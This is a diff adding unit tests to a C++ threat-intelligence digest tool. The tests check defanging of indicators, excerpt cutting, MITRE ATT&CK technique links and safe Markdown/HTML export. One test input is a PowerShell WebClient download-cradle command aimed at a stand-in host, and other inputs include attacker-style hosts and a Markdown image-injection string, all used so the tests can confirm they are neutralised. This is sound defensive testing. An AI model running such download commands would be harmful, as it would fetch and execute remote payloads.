@@ -87,6 +87,9 @@ TEST_CASE("defang: what could be clicked cannot be, the rest stays") {
           "\\\\evil[.]example\\share\\a.exe");
     CHECK(defang(IndicatorType::command_line, "cmd.exe /c x.ps1 http.evil.example") ==
           "cmd.exe /c x.ps1 http[.]evil[.]example");
+    CHECK(defang(IndicatorType::command_line,
+                 "powershell (New-Object Net.WebClient).DownloadFile('http://a.evil/x')") ==
+          "powershell (New-Object Net.WebClient).DownloadFile('http://a[.]evil/x')");
     CHECK(defang(IndicatorType::attack_technique, "T1059.001") == "T1059.001");
     CHECK(defang(IndicatorType::url, "").empty());
 }
@@ -102,6 +105,14 @@ TEST_CASE("defang_text: addresses in a sentence are broken, versions and abbrevi
     CHECK(defang_text("8.8.4.4，于8.8.4.4。8.8.4.4é") == "8[.]8[.]4[.]4，于8[.]8[.]4[.]4。8[.]8[.]4[.]4é");
     CHECK(defang_text("evil.exe, a.docx and evil.com.exe; evil.com，") ==
           "evil.exe, a.docx and evil[.]com.exe; evil[.]com，");
+    CHECK(defang_text("forfiles.exe readme.md ./setup.py run.sh, lib.rs.") ==
+          "forfiles.exe readme.md ./setup.py run.sh, lib.rs.");
+    CHECK(defang_text("evil.sh/x www.evil.sh a.evil.sh me@evil.sh evil.sh:80 evil.zip") ==
+          "evil[.]sh/x www[.]evil[.]sh a[.]evil[.]sh me[@]evil[.]sh evil[.]sh:80 evil[.]zip");
+    CHECK(defang_text("(New-Object Net.WebClient) System.Net.WebClient String.fromCharCode") ==
+          "(New-Object Net.WebClient) System.Net.WebClient String.fromCharCode");
+    CHECK(defang_text("Evil.Com evil.com.Next Evil.example") ==
+          "Evil[.]Com evil[.]com[.]Next Evil[.]example");
     CHECK(defang_text("").empty());
     CHECK(defang_text(std::string(2'000'000, '1')).size() == 2'000'000);
 }
@@ -114,6 +125,14 @@ TEST_CASE("one_line: it is cut, folded and without what turns or controls the te
     CHECK(one_line("abc", 3) == "abc");
     CHECK(one_line("some words here", 12) == "some words…");
     CHECK(one_line(std::string(5'000'000, ' ') + "x", 3) == "…");
+}
+
+TEST_CASE("excerpt: it is defanged before it is cut, and ends with a sentence or a word") {
+    CHECK(excerpt("One is here. Two is", 100) == "One is here. Two is");
+    CHECK(excerpt("One sentence is here. Another one is cut", 30) == "One sentence is here. …");
+    CHECK(excerpt("One. The other sentence is too long for it", 30) == "One. The other sentence is…");
+    CHECK(excerpt("Traffic went to evil.example and others", 30) == "Traffic went to…");
+    CHECK(excerpt("Is it? It is " + std::string(100, 'x'), 20) == "Is it? It is…");
 }
 
 TEST_CASE("web_link: http and https only, and nothing that leaves an attribute or a Markdown link") {
@@ -151,6 +170,21 @@ TEST_CASE("digest: articles are counted by day, source and indicator") {
     CHECK(view.names.at(0).heading == "Malware");
     CHECK(view.vulnerabilities.at(0).top.at(0).name == "CVE-2026-1");
     CHECK(view.techniques.at(0).top.at(0).name == "T1059");
+    CHECK(view.techniques[0].top[0].title == "Command and Scripting Interpreter");
+}
+
+TEST_CASE("digest: techniques stand with their names and are links to their pages") {
+    const auto article = article_with({finding("attack_technique", "T1059.001"),
+                                       finding("attack_technique", "T1999"), finding("malware", "Emotet")});
+    const auto markdown = render("markdown", {article}), html = render("html", {article});
+    CHECK(contains(
+        markdown, "- [`T1059.001` PowerShell](https://attack.mitre.org/techniques/T1059/001/): 1 article\n"));
+    CHECK(contains(markdown, "- [`T1999`](https://attack.mitre.org/techniques/T1999/): 1 article\n"));
+    CHECK(contains(markdown, "- `Emotet`: 1 article\n"));
+    CHECK(contains(
+        html,
+        "href=\"https://attack.mitre.org/techniques/T1059/001/\"><code><bdi>T1059.001</bdi></code> <bdi>PowerShell</bdi></a>"));
+    CHECK(links_of_html(html).size() == 3);
 }
 
 TEST_CASE(
@@ -254,7 +288,8 @@ TEST_CASE("export markdown: a digest as it reads") {
           "# Threat intelligence digest\n\n0 articles of 0 sources, 0 different indicators.\n");
 }
 
-TEST_CASE("export markdown, html: no text gets out of its place, and only articles are links") {
+TEST_CASE(
+    "export markdown, html: no text gets out of its place, and only articles and techniques are links") {
     auto texts = nasty_texts();
     for (const auto* text :
          {"`a``b```", "`", "a|b", "![x](https://evil.example/p.png)", "<https://evil.example>", "&lt;b&gt;",
